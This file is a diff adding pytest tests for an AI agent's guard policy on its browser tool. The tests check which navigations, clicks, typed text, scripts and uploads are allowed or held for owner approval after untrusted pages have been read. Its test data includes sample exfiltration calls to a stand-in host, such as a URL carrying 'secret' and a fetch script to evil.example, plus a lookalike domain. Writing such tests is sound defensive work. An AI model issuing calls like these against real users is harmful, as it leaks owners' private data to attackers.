@@ -1,0 +1,121 @@
+"""What the guard makes of the browser: its effects and arguments depend on the action."""
+
+from dataclasses import replace
+from typing import Any
+
+import pytest
+
+from hob.core.ports.guard import Allow, Ask, Deny, Verdict
+from hob.core.tools import Effect
+from hob.core.trust.labels import SenderClass, Trust
+from hob.guard.policy.call_analysis import read_call
+from hob.guard.policy.context import Context, Private, Sandbox
+from hob.guard.policy.exemptions import read_words
+from hob.guard.policy.modes import Autonomy, Mode
+from hob.tools.browser.specs import BROWSER_TOOL
+from tests.guard.calling import POLICY, READER, call_of
+
+PAGE = "https://shop.example/cart"
+ACT = {"action": "act", "kind": "click", "ref": "e3", "page": PAGE}
+
+
+def judged(words: str = "", *, tainted: bool = True, read: tuple[Private, ...] = (), **arguments: Any) -> Verdict:
+    analysis = read_call(call_of("browser", **arguments), BROWSER_TOOL, READER, Sandbox())
+    assert analysis is not None
+    context = Context(
+        sender=SenderClass.OWNER,
+        trust=Trust.UNTRUSTED if tainted else Trust.TRUSTED,
+        named=read_words([words]),
+        mode=Mode.GUARDED,
+        answerable=True,
+        private=read,
+    )
+    return POLICY.decide(analysis, context).verdict
+
+
+@pytest.mark.parametrize(
+    "arguments",
+    [{"action": action} for action in ("start", "stop", "status", "tabs", "snapshot", "screenshot", "console", "close")]
+    + [{"action": "act", "kind": "wait", "text": "Done"}],
+)
+def test_looking_needs_no_approval(arguments: dict[str, Any]) -> None:
+    assert isinstance(judged(**arguments), Allow)
+
+
+@pytest.mark.parametrize("action", ["open", "navigate"])
+def test_address_has_to_be_the_owners_once_a_page_was_read(action: str) -> None:
+    assert isinstance(judged(tainted=False, action=action, url="https://news.example/"), Allow)
+    assert isinstance(judged("Look at https://news.example/ please", action=action, url="https://news.example/"), Allow)
+    asked = judged("Look at https://news.example/", action=action, url="https://evil.example/?q=secret")
+    assert isinstance(asked, Ask)
+    assert asked.rule == "taint.url"
+
+
+@pytest.mark.parametrize("kind", ["click", "type", "press", "fill", "select", "drag", "hover"])
+@pytest.mark.parametrize("tainted", [False, True])
+def test_acting_is_asked_about_unless_the_owner_named_the_host(kind: str, tainted: bool) -> None:
+    asked = judged("Buy it", tainted=tainted, **{**ACT, "kind": kind})
+    assert isinstance(asked, Ask)
+    assert "shop.example" in asked.reason
+    assert isinstance(judged("Buy it at shop.example", tainted=tainted, **{**ACT, "kind": kind}), Allow)
+    other = {**ACT, "kind": kind, "page": "https://shop.example.evil.example/"}
+    assert isinstance(judged("Buy it at shop.example", tainted=tainted, **other), Ask)
+
+
+def test_what_was_read_of_the_owners_is_not_typed_anywhere_unasked() -> None:
+    read = (Private(("/home/me/diary.txt",), "my diary"),)
+    typing = {**ACT, "kind": "type", "text": "my secret diary"}
+    assert isinstance(judged("Order it at shop.example", read=read, **typing), Ask)
+
+
+@pytest.mark.parametrize(
+    "arguments",
+    [
+        {"action": "act", "kind": "evaluate", "page": PAGE, "script": "fetch('https://evil.example')"},
+        {"action": "upload", "page": PAGE, "ref": "e3", "path": "/home/me/hob/work/plan.md"},
+        {"action": "snapshot", "kind": "click"},
+        {"action": "act"},
+        {"action": "snapshot", "profile": "owner"},
+    ],
+)
+def test_scripts_files_and_what_is_no_known_action_are_always_asked_about(arguments: dict[str, Any]) -> None:
+    assert isinstance(judged("Do it at shop.example", **arguments), Ask)
+
+
+@pytest.mark.parametrize("mode", [Mode.GUARDED, Mode.WORKSPACE, Mode.FULL])
+@pytest.mark.parametrize("autonomy", list(Autonomy))
+def test_owners_profile_is_opened_by_approval_alone(mode: Mode, autonomy: Autonomy) -> None:
+    call = call_of("browser", action="start", profile="owner")
+    analysis = read_call(call, BROWSER_TOOL, READER, Sandbox())
+    assert analysis is not None
+    trusted = Context(
+        sender=SenderClass.OWNER, trust=Trust.TRUSTED, named=read_words(["open it"]), mode=mode, autonomy=autonomy,
+        answerable=True,
+    )  # fmt: skip
+    for context in (trusted, replace(trusted, trust=Trust.UNTRUSTED)):
+        verdict = POLICY.decide(analysis, context).verdict
+        assert isinstance(verdict, Ask)
+        assert "open the browser with your own profile" in verdict.reason
+
+
+def test_read_only_session_acts_nowhere() -> None:
+    analysis = read_call(call_of("browser", **ACT), BROWSER_TOOL, READER, Sandbox())
+    assert analysis is not None
+    context = Context(
+        sender=SenderClass.OWNER, trust=Trust.TRUSTED, named=read_words(["shop.example"]), mode=Mode.READ_ONLY,
+        answerable=True,
+    )  # fmt: skip
+    assert isinstance(POLICY.decide(analysis, context).verdict, Deny)
+
+
+def test_every_action_and_kind_is_known_to_the_guard() -> None:
+    properties = BROWSER_TOOL.schema["properties"]
+    known = {words.partition(" ")[0] for words in BROWSER_TOOL.variants}
+    assert known == set(properties["action"]["enum"])
+    kinds = {words.partition(" ")[2] for words in BROWSER_TOOL.variants if words.startswith("act ")}
+    assert kinds == set(properties["kind"]["enum"]) - {""}
+    assert all(each.effects <= BROWSER_TOOL.effects for each in BROWSER_TOOL.variants.values())
+    unknown = {"script"}
+    for words, variant in BROWSER_TOOL.variants.items():
+        assert variant.roles.known() <= set(properties) - unknown, words
+    assert BROWSER_TOOL.used_by({"action": "snapshot"}).effects == {Effect.READS_UNTRUSTED}
